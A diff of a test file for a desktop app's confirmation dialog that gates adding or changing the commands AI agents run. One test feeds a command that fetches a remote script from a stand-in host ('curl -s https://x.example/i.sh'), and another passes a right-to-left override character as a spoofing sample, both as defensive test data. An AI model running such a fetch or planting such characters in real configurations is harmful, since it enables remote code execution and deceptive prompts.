@@ -52,9 +52,7 @@ describe('the confirmation dialog of the desktop app', () => {
     electron.showMessageBox.mockResolvedValueOnce({ response: CANCEL, checkboxChecked: false })
     const refused = await fromWindow('agents.add', {
       name: 'Mine',
-      command: '/opt/mine',
-      args: ['--acp', 'two words', 'x\u202Eyz'],
-      env: { MODE: 'fast' }
+      transport: { kind: 'process', command: '/opt/mine', args: ['--acp', 'two words', 'x\u202Eyz'], env: { MODE: 'fast' } }
     })
     expect(refused).toEqual({
       ok: false,
@@ -120,10 +118,10 @@ describe('the confirmation dialog of the desktop app', () => {
 
   it('the confirming button adds it; a code the page sends does not stand in for the dialog', async () => {
     electron.showMessageBox.mockResolvedValueOnce({ response: CANCEL, checkboxChecked: false })
-    const withCode = await fromWindow('agents.add', { name: 'Mine', command: 'mine', confirmationCode: 'ABC-DEF' })
+    const withCode = await fromWindow('agents.add', { name: 'Mine', transport: { kind: 'process', command: 'mine' }, confirmationCode: 'ABC-DEF' })
     expect(withCode).toMatchObject({ ok: false, error: { code: 'confirmation_refused' } })
     electron.showMessageBox.mockResolvedValueOnce({ response: CONFIRM, checkboxChecked: false })
-    expect(await fromWindow('agents.add', { name: 'Mine', command: 'mine' })).toMatchObject({
+    expect(await fromWindow('agents.add', { name: 'Mine', transport: { kind: 'process', command: 'mine' } })).toMatchObject({
       ok: true,
       result: { id: 'mine', transport: { kind: 'process', command: 'mine' } }
     })
@@ -132,13 +130,19 @@ describe('the confirmation dialog of the desktop app', () => {
 
   it('a change of what an agent runs asks, a rename does not; an MCP stdio server asks with its command line', async () => {
     electron.showMessageBox.mockResolvedValue({ response: CONFIRM, checkboxChecked: false })
-    await fromWindow('agents.add', { name: 'Mine', command: 'mine' })
+    await fromWindow('agents.add', { name: 'Mine', transport: { kind: 'process', command: 'mine' } })
     electron.showMessageBox.mockClear()
-    expect(await fromWindow('agents.update', { agentId: 'mine', name: 'Renamed', command: 'mine' })).toMatchObject({ ok: true })
+    expect(await fromWindow('agents.update', { agentId: 'mine', name: 'Renamed', transport: { kind: 'process', command: 'mine' } })).toMatchObject({
+      ok: true
+    })
     expect(electron.showMessageBox).not.toHaveBeenCalled()
 
     electron.showMessageBox.mockResolvedValueOnce({ response: CANCEL, checkboxChecked: false })
-    const changed = await fromWindow('agents.update', { agentId: 'mine', name: 'Renamed', command: 'curl', args: ['-s', 'https://x.example/i.sh'] })
+    const changed = await fromWindow('agents.update', {
+      agentId: 'mine',
+      name: 'Renamed',
+      transport: { kind: 'process', command: 'curl', args: ['-s', 'https://x.example/i.sh'] }
+    })
     expect(changed).toMatchObject({ ok: false, error: { code: 'confirmation_refused' } })
     expect(box(0)).toMatchObject({ message: 'Change what the agent “Renamed” runs?', buttons: ['Cancel', 'Save changes'] })
     expect(box(0).detail).toContain('  curl -s https://x.example/i.sh')
@@ -159,8 +163,8 @@ describe('the confirmation dialog of the desktop app', () => {
     let answerFirst: (value: { response: number; checkboxChecked: boolean }) => void = () => undefined
     electron.showMessageBox.mockReturnValueOnce(new Promise((resolve) => (answerFirst = resolve)))
     electron.showMessageBox.mockResolvedValueOnce({ response: CONFIRM, checkboxChecked: false })
-    const first = fromWindow('agents.add', { name: 'First', command: 'first' })
-    const second = fromWindow('agents.add', { name: 'Second', command: 'second' })
+    const first = fromWindow('agents.add', { name: 'First', transport: { kind: 'process', command: 'first' } })
+    const second = fromWindow('agents.add', { name: 'Second', transport: { kind: 'process', command: 'second' } })
     await vi.waitFor(() => expect(electron.showMessageBox).toHaveBeenCalledTimes(1))
     await new Promise((resolve) => setTimeout(resolve, 50))
     expect(electron.showMessageBox).toHaveBeenCalledTimes(1)
